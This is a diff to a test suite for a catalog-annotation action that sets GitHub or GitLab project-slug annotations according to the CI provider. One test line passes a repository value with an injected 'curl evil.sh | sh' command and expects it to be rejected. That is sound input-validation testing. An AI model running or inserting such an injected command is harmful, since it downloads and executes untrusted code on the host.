@@ -117,6 +117,30 @@ describe('waybill:catalog:annotate', () => {
     await expect(run({ ...base, ...override })).rejects.toThrow(message);
   });
 
+  it('names the repository its pipelines may report from, per CI provider', async () => {
+    const github = await run({
+      ...base,
+      repository: 'meridian/pricing-quotes-api',
+    });
+    expect(github.entity.metadata.annotations['github.com/project-slug']).toBe(
+      'meridian/pricing-quotes-api',
+    );
+    const gitlab = await run({
+      ...base,
+      repository: 'erp/pricing/pricing-quotes-api',
+      ciProvider: 'gitlab-ci',
+    });
+    expect(gitlab.entity.metadata.annotations).toMatchObject({
+      'gitlab.com/project-slug': 'erp/pricing/pricing-quotes-api',
+    });
+    expect(
+      gitlab.entity.metadata.annotations['github.com/project-slug'],
+    ).toBeUndefined();
+    await expect(
+      run({ ...base, repository: 'meridian/x; curl evil.sh | sh' }),
+    ).rejects.toThrow(/repository: must be owner\/name/);
+  });
+
   it('refuses a catalog file the catalog would reject', async () => {
     await expect(
       run(base, CATALOG.replace('owner: digital-channels', 'owner: 42')),
